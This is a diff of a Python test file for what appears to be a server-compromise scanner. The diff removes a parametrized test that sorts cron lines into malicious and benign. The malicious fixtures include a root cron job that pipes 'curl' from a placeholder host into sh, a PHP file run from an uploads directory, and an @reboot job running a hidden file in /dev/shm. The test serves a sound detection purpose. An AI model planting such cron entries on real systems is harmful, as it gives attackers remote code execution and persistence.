@@ -126,22 +126,6 @@ def test_a_page_of_gambling_that_nothing_leads_to_is_told() -> None:
     assert found({path: Entry("f", 9)}, {path: calm}) == []
 
 
-@pytest.mark.parametrize(
-    ("line", "bad"),
-    [
-        ("* * * * * root curl -s http://a.invalid/x | sh", True),
-        ("*/5 * * * * php /srv/pelihara/portal/shared/wp-content/uploads/a.php", True),
-        ("@reboot root /dev/shm/.x", True),
-        ("# * * * * * root curl -s http://a.invalid/x | sh", False),
-        ("17 * * * * root cd / && run-parts --report /etc/cron.hourly", False),
-        ("09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean", False),
-        ("* * * * * deploy php /srv/pelihara/portal/current/artisan schedule:run >> /dev/null 2>&1", False),
-    ],
-)
-def test_a_timetable_is_judged_line_by_line(line: str, bad: bool) -> None:
-    assert (("files.webshell", "jadwal (cron)") in codes(found({}, {}, cron=(line,)))) is bad
-
-
 def test_many_findings_of_a_code_are_told_as_a_number() -> None:
     told = found({f"{TOP}/{n}.txt": Entry("f", 9, sha256=B) for n in range(100)}, {})
     assert len(told) == judging.TOLD + 1
